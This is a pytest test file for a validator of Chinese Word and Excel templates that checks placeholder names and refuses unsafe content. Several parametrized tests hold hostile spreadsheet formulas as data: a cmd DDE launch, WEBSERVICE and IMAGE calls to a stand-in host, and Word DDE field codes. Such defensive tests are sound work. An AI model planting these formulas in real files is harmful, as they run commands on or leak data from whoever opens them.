from __future__ import annotations

import docx
import pytest
from docx.oxml import OxmlElement

from cwdesk.kernel.errors import Rejected
from cwdesk.templates.check import check
from cwdesk.templates.package import Kind
from tests.templates.given import WORDS, book, packed, with_part, word


def problems(data: bytes, name: str = "表.docx") -> tuple[str, ...]:
    return check(name, data, WORDS).problems


def test_a_good_template_says_what_it_asks_for() -> None:
    found = check("表.docx", word("{{姓名}}", table=[["{{简历.起止}}", "{{简历.序号}}"]]), WORDS)
    assert found.kind is Kind.WORD
    assert found.names == {"姓名", "简历.起止", "简历.序号"}
    assert found.problems == ()


def test_unknown_names_are_named_with_place_and_suggestion() -> None:
    data = word("{{性名}}", table=[["甲", "乙"], ["丙", "{{公民身份号码}}"]])
    assert problems(data) == (
        "正文第 1 段：没有“性名”这个名称。是不是 {{姓名}}？",
        "第 1 个表格第 2 行第 2 格：没有“公民身份号码”这个名称。是不是 {{身份证号}}？",
    )
    sheet = packed(book({"C7": "{{建立.起止}}", "D7": "{{出生年月}}"}))
    first, second = problems(sheet, "表.xlsx")
    assert first == "工作表“名册”C7：没有“建立.起止”这个名称。是不是 {{简历.起止}}？"
    assert "请在“字段表”里找" in second


def test_headers_and_footers_are_looked_at() -> None:
    made = docx.Document()
    made.sections[0].header.paragraphs[0].text = "{{单位}}"
    assert problems(packed(made))[0].startswith("页眉第 1 段：")
    made = book({"A1": "{{单位名称}}"})
    made.active.oddFooter.center.text = "{{单位}}"
    assert "页眉页脚" in problems(packed(made), "表.xlsx")[0]


def test_every_problem_is_said_at_once() -> None:
    assert len(problems(word("{{性名}}{{姓名}", "{% if x %}", "{{ 姓名|e }}"))) == 4


def test_a_template_without_placeholders_is_no_template() -> None:
    assert "没有找到 {{名称}}" in problems(word("通知"))[0]


def test_two_lists_in_one_row_are_refused() -> None:
    data = word(table=[["{{简历.起止}}", "{{家庭成员.姓名}}"]])
    assert "同一行里有“家庭成员”、“简历”" in problems(data)[0]
    sheet = packed(book({"A1": "{{简历.起止}}", "B1": "{{人员.姓名}}", "A2": "{{人员.姓名}}"}))
    assert len(problems(sheet, "表.xlsx")) == 1
    assert problems(word("{{简历.起止}}", "{{家庭成员.姓名}}")) == ()


@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A1",
        '=WEBSERVICE("http://x/"&A1)',
        '=IF(A1=1,image("http://x"),2)',
        '=REGISTER("x")',
    ],
)
def test_formulas_that_reach_outside_are_refused(formula: str) -> None:
    sheet = packed(book({"A1": "{{单位名称}}", "A2": formula, "A3": "=SUM(B1:B9)"}))
    (problem,) = problems(sheet, "表.xlsx")
    assert problem.startswith("工作表“名册”A2：")


def test_a_placeholder_inside_a_formula_is_refused() -> None:
    sheet = packed(book({"A1": '="共"&"{{单位名称}}"'}))
    assert "公式和域代码里不能放" in problems(sheet, "表.xlsx")[0]


def test_fields_that_start_programs_are_refused_however_they_are_cut() -> None:
    made = docx.Document()
    run = made.add_paragraph("{{姓名}}").add_run()
    for piece in ("DDE", "AUTO c:\\x"):
        code = OxmlElement("w:instrText")
        code.text = piece
        run._r.append(code)  # noqa: SLF001
    (problem,) = problems(packed(made))
    assert "域代码" in problem


def test_a_sheet_drawn_on_to_its_far_corner_is_refused() -> None:
    sheet = packed(book({"A1": "{{单位名称}}", "ZZ1": "x"}))
    with pytest.raises(Rejected, match="空列"):
        problems(sheet, "表.xlsx")


def test_a_package_that_the_readers_stumble_over_is_damaged() -> None:
    with pytest.raises(Rejected) as refused:
        problems(with_part(word("{{姓名}}"), "_rels/.rels", b"<Relationships/>"))
    assert refused.value.code == "damaged"
